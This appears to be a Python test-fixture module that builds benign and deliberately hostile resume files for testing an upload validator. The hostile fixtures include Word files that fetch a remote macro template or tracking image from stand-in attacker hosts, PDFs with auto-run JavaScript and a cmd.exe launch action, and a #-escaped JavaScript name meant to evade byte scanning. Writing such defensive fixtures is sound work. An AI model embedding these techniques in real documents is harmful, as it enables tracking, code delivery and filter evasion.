"""Real resume files made on the fly, so no binary fixture is committed.

Besides plain resumes, the hostile ones a security review tried: a Word file whose template
or picture is fetched from elsewhere when it opens, embedded objects, a DOCTYPE, and PDFs
that run scripts or carry other files. Each is built from a real file, changed the way an
attacker's tool would change it.
"""

import io
import random
import zipfile

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from fpdf import FPDF
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

WORD_MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
PARAGRAPH = (
    '<w:p w:rsidR="00A1B2C3" w:rsidRDefault="00A1B2C3"><w:pPr><w:spacing w:after="120"/>'
    '<w:rPr><w:rFonts w:ascii="Calibri" w:hAnsi="Calibri"/><w:sz w:val="22"/></w:rPr></w:pPr>'
    '<w:r><w:rPr><w:rFonts w:ascii="Calibri" w:hAnsi="Calibri"/><w:sz w:val="22"/></w:rPr>'
    '<w:t xml:space="preserve">{}</w:t></w:r></w:p>'
)


def pdf_bytes(text: str = "Jane Doe. Three years in a contact centre, CSAT 92 %.") -> bytes:
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.multi_cell(0, 8, text)
    return bytes(pdf.output())


def docx_bytes(text: str = "Jane Doe. Chat and email support, Zendesk, Spanish.") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


# --- Word files -------------------------------------------------------------------------------


def rezip(data: bytes, *, add: dict[str, bytes] | None = None, replace=None) -> bytes:
    """A copy of a zip with entries added or replaced."""
    replace = replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def relationships(*entries: tuple[str, str, str, bool]) -> bytes:
    """A .rels part: (id, type, target, external) per relationship."""
    rows = "".join(
        f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for rid, kind, target, external in entries
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="{PACKAGE_RELATIONSHIPS}">{rows}</Relationships>'
    ).encode()


def docx_with_template(target: str) -> bytes:
    """Word's "attached template": a remote one is fetched (and its macros run) on opening."""
    data = docx_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        settings = archive.read("word/settings.xml").decode()
    settings = settings.replace(
        "<w:defaultTabStop",
        f'<w:attachedTemplate xmlns:r="{OFFICE_RELATIONSHIPS}" r:id="rId1"/><w:defaultTabStop',
        1,
    )
    rels = relationships(("rId1", f"{OFFICE_RELATIONSHIPS}/attachedTemplate", target, True))
    return rezip(
        data,
        replace={"word/settings.xml": settings.encode()},
        add={"word/_rels/settings.xml.rels": rels},
    )


def docx_with_remote_template() -> bytes:
    return docx_with_template("https://templates.attacker.example/resume.dotm")


def docx_with_linked_image(target: str = "http://tracker.attacker.example/pixel.png") -> bytes:
    """A picture stored elsewhere: Word fetches it (and leaks who opened the file)."""
    return _docx_with_document_relationship(f"{OFFICE_RELATIONSHIPS}/image", target, True)


def docx_with_hyperlink(url: str) -> bytes:
    """A clickable link, as Word writes one: an external relationship of the hyperlink type."""
    document = docx.Document()
    paragraph = document.add_paragraph("Portfolio: ")
    rid = document.part.relate_to(url, RT.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), rid)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "my work"
    run.append(text)
    link.append(run)
    paragraph._p.append(link)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _docx_with_document_relationship(kind: str, target: str, external: bool, **add) -> bytes:
    data = docx_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rels = archive.read("word/_rels/document.xml.rels").decode()
    extra = (
        f'<Relationship Id="rId99" Type="{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/></Relationships>"
    )
    rels = rels.replace("</Relationships>", extra)
    return rezip(data, replace={"word/_rels/document.xml.rels": rels.encode()}, add=add)


def docx_with_ole_object() -> bytes:
    """An embedded OLE object (a spreadsheet, a packaged program): runs on double-click."""
    return _docx_with_document_relationship(
        f"{OFFICE_RELATIONSHIPS}/oleObject",
        "embeddings/oleObject1.bin",
        False,
        **{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)},
    )


def docx_with_alt_chunk() -> bytes:
    """altChunk: Word imports another file (HTML, MHT, RTF) into the body as it opens."""
    data = _docx_with_document_relationship(f"{OFFICE_RELATIONSHIPS}/aFChunk", "afchunk.mht", False)
    return rezip(data, add={"word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<html>hi</html>"})


def docx_with_activex() -> bytes:
    return _docx_with_document_relationship(
        f"{OFFICE_RELATIONSHIPS}/control",
        "activeX/activeX1.xml",
        False,
        **{"word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="urn:x"/>'},
    )


def docx_with_doctype(*, encoding: str = "utf-8") -> bytes:
    """A DOCTYPE in the main document (no Word file has one); its entity is never used."""
    data = docx_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        document = archive.read("word/document.xml").decode()
    body = document.split("?>", 1)[1]
    document = (
        f'<?xml version="1.0" encoding="{encoding}" standalone="no"?>\n'
        '<!DOCTYPE w:document [<!ENTITY greeting "hello">]>' + body
    )
    encoded = document.encode(encoding)
    if encoding == "utf-16":
        assert encoded.startswith(b"\xff\xfe")  # the byte order mark tells parsers the encoding
    return rezip(data, replace={"word/document.xml": encoded})


def docx_with_xml_bytes(size: int, *, seed: int = 51) -> bytes:
    """A resume whose document.xml holds ``size`` bytes of ordinary-looking paragraphs.

    Word's markup around varied words keeps the compression ratio near a real file's (about
    12:1 here: 51 MB of XML in a 4.3 MB file), so the archive passes the zip-bomb checks and
    only the size of its XML can stop it.
    """
    rng = random.Random(seed)
    words = ["".join(rng.choice("etaoinshr") for _ in range(rng.randint(3, 8))) for _ in range(400)]  # fmt: skip  # noqa: E501
    head = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<w:document xmlns:w="{WORD_MAIN}"><w:body>'
    )
    tail = "</w:body></w:document>"
    data = docx_bytes()
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename != "word/document.xml":
                target.writestr(info.filename, source.read(info))
        with target.open("word/document.xml", "w") as entry:
            written = entry.write(head.encode())
            while written < size - len(tail):
                sentence = " ".join(rng.choice(words) for _ in range(12))
                written += entry.write(PARAGRAPH.format(sentence).encode())
            entry.write(tail.encode())
    return out.getvalue()


# --- PDFs -------------------------------------------------------------------------------------


def _pdf_writer() -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action")})
    action[NameObject("/S")] = NameObject(kind)
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript (the /Names /JavaScript tree), run when the file opens."""
    writer = _pdf_writer()
    script = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert(1);")))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )
    return _written(writer)


def pdf_with_open_action(action: DictionaryObject | ArrayObject) -> bytes:
    writer = _pdf_writer()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _written(writer)


def pdf_with_javascript_on_open() -> bytes:
    return pdf_with_open_action(
        _action("/JavaScript", JS=TextStringObject("app.launchURL('http://x.example');"))
    )


def pdf_with_launch_on_open() -> bytes:
    return pdf_with_open_action(_action("/Launch", F=TextStringObject("cmd.exe")))


def pdf_opening_at_the_first_page() -> bytes:
    """What many PDF writers add: open at page one, fit to the window. Not an action."""
    writer = _pdf_writer()
    page = writer.pages[0].indirect_reference
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])
    return _written(writer)


def pdf_with_page_action() -> bytes:
    """/AA: an action that runs when a page opens, without anyone clicking."""
    writer = _pdf_writer()
    page_open = _action("/JavaScript", JS=TextStringObject("this.print();"))
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): page_open})
    return _written(writer)


def pdf_with_embedded_file() -> bytes:
    writer = _pdf_writer()
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    return _written(writer)


def pdf_with_xfa_form() -> bytes:
    writer = _pdf_writer()
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp/>")}
    )
    return _written(writer)


def pdf_with_escaped_javascript_name() -> bytes:
    """The same document-level script, its name written with a #-escape to dodge byte search."""
    raw = pdf_with_javascript_on_open()
    assert raw.count(b"/JavaScript") == 1
    return raw.replace(b"/S /JavaScript", b"/S /J#61vaScript")


def pdf_with_link(url: str = "https://www.linkedin.com/in/jane-doe") -> bytes:
    """A clickable web link: what a resume has, and nothing runs by itself."""
    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="My profile", link=url)
    return bytes(pdf.output())
